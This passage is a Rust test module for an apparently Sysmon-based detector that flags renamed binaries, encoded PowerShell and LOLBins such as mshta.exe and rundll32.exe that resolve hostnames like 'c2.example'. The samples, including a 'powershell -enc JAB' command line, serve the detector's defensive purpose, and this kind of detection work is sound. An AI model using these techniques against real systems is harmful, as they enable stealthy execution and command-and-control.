        let mut config = ProcessContextConfig::default();
        config.shipped_names.clear();
        let got = run(config, &[create(gpresult, gpresult, "gprslt.exe"), lookup(gpresult, "dc01.corp.example")]);
        assert_eq!(got.len(), 1, "without the pair it is a rename: {got:?}");
        assert_eq!(got[0].0, "renamed");
        // Sysinternals: `PsExec64.exe` is `psexec.c` in its header.
        let psexec = "C:\\Tools\\PsExec64.exe";
        check(&[create(psexec, psexec, "psexec.c"), lookup(psexec, "fs03")], &[]);
    }

    #[test]
    fn ordinary_processes_do_not_fire() {
        let chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
        check(&[create(chrome, chrome, "chrome.exe"), lookup(chrome, "www.google.com")], &[]);
        check(
            &[create(PS, "powershell.exe -File C:\\scripts\\inventory.ps1", "PowerShell.EXE"), lookup(PS, "github.com")],
            &[],
        );
        check(&[lookup("C:\\Windows\\System32\\svchost.exe", "ctldl.windowsupdate.com")], &[]);
        // Without EID 1, PowerShell is judged by nothing it cannot show.
        check(&[lookup(PS, "github.com")], &[]);
    }

    #[test]
    fn pending_lookups_are_bounded_and_still_counted() {
        let config = ProcessContextConfig {
            max_pending_per_process: 2,
            ..Default::default()
        };
        let mut events: Vec<Event> = (0..6).map(|_| lookup(PS, "x.example")).collect();
        events.push(create(PS, "powershell -enc JAB", "PowerShell.EXE"));
        assert_eq!(run(config.clone(), &events), [("encoded_powershell".to_owned(), Severity::High, 6)]);
        let mut d = ProcessContext::new(ProcessContextConfig {
            max_pending_processes: 0,
            ..Default::default()
        });
        let mut out = Vec::new();
        d.observe(&lookup(PS, "x.example"), &mut out);
        assert_eq!(d.dropped_pending, 1);
        assert!(d.pending.is_empty());
    }

    #[test]
    fn lolbin_lists_are_configurable() {
        let config = ProcessContextConfig {
            extra_lolbins: vec!["MyTool.exe".into()],
            ignore_lolbins: vec!["rundll32.exe".into()],
            ..Default::default()
        };
        assert_eq!(
            run(config.clone(), &[lookup("C:\\Tools\\mytool.exe", "a.example")]),
            [("lolbin".to_owned(), Severity::Medium, 1)]
        );
        assert!(run(config, &[lookup(RUNDLL, "a.example")]).is_empty());
        check(&[lookup("C:\\Windows\\System32\\mshta.exe", "a.example")], &[("lolbin", Severity::High, 1)]);
        check(&[lookup("C:\\Windows\\System32\\msiexec.exe", "a.example")], &[("lolbin", Severity::Low, 1)]);
        // Certificate checks alone are low; another name raises the same finding.
        check(
            &[lookup(RUNDLL, "ctldl.windowsupdate.com"), lookup(RUNDLL, "ocsp.digicert.com")],
            &[("lolbin", Severity::Low, 2)],
        );
        check(
            &[lookup(RUNDLL, "ctldl.windowsupdate.com"), lookup(RUNDLL, "c2.example")],
            &[("lolbin", Severity::Medium, 2)],
        );
    }
}
